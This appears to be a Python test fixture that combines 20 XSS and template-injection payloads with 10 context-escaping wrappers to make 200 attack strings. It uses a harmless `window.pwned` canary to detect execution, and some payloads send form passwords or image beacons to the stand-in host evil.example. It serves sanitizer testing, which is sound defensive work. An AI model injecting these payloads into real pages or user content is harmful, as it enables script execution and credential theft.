"""200 attacking strings, and what would tell that one of them had run: `window.pwned`."""

PAYLOADS = (
    "<img src=x onerror=window.pwned=1>",
    "<svg onload=window.pwned=1>",
    "<script>window.pwned=1</script>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<a href=javascript:window.pwned=1>x</a>",
    "<style>body{display:none}</style>",
    "<base href=//evil.example>",
    "<form action=//evil.example><input type=password>",
    "![x](http://evil.example/leak.png)",
    "[x](javascript:window.pwned=1)",
    "${window.pwned=1}",
    "{{constructor.constructor('window.pwned=1')()}}",
    "{{#with this}}{{lookup . 'constructor'}}{{/with}}",
    "`${(window.pwned=1)}`",
    "<details open ontoggle=window.pwned=1>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.pwned=1>",
    "<template><img src=x onerror=window.pwned=1></template>",
    "<input autofocus onfocus=window.pwned=1>",
    "<object data=javascript:window.pwned=1>",
    "<link rel=stylesheet href=//evil.example/x.css>",
)
WRAPPERS = (
    "{}",
    '"{}',
    "'{}'",
    '" autofocus onfocus=window.pwned=1 x="{}',
    "-->{}<!--",
    "</textarea>{}",
    "]]>{}",
    "&lt;{}&gt;",
    "\u202e{}\u2066",
    "a\u200b{}\u200db",
)
ATTACKS = [wrapper.replace("{}", payload) for payload in PAYLOADS for wrapper in WRAPPERS]
LONG = "w" * 100_000
"""A line without a blank."""
